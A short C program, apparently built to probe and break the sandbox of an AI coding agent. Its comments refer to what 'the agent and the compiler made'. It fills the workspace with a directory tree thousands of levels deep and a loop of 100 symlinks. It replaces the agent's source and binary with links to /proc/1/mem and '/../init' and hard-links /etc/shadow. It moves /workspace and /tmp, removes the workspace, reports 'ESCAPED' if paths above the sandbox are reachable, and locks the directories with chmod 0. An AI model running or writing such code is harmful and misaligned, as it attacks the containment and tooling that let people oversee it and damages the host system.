#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char name[256];

int main(void)
{
    int depth = 0, links = 0;
    struct stat status;
    memset(name, 'n', 255);
    /* Deeper than any path can say, with names as long as they may be. */
    chdir("/workspace");
    while (depth < 3000 && mkdir(name, 0700) == 0 && chdir(name) == 0)
        depth++;
    for (int i = 0; i < 100; i++) {
        char from[16], to[16];
        snprintf(from, sizeof from, "l%d", i);
        snprintf(to, sizeof to, "l%d", (i + 1) % 100);
        links += symlink(to, from) == 0;
    }
    /* Links over what the agent and the compiler made and may look at again. */
    chdir("/workspace");
    unlink("main");
    symlink("/proc/1/mem", "main");
    unlink("main.c");
    symlink("/../init", "main.c");
    rename("/workspace", "/tmp/workspace");
    rename("/tmp", "/workspace/tmp");
    symlink("/proc/self/root", "root");
    symlink("/", "up");
    link("/etc/shadow", "shadow");
    link("/proc/self/exe", "exe");
    mkfifo("fifo", 0600);
    rmdir("/workspace");
    printf("deep: %s, links: %d, above: %s\n", depth > 100 ? "yes" : "no", links,
           stat("up/../../init", &status) == 0 || stat("main.c", &status) == 0 ? "ESCAPED" : "nothing");
    chmod("/workspace", 0);
    chmod("/tmp", 0);
    return 0;
}
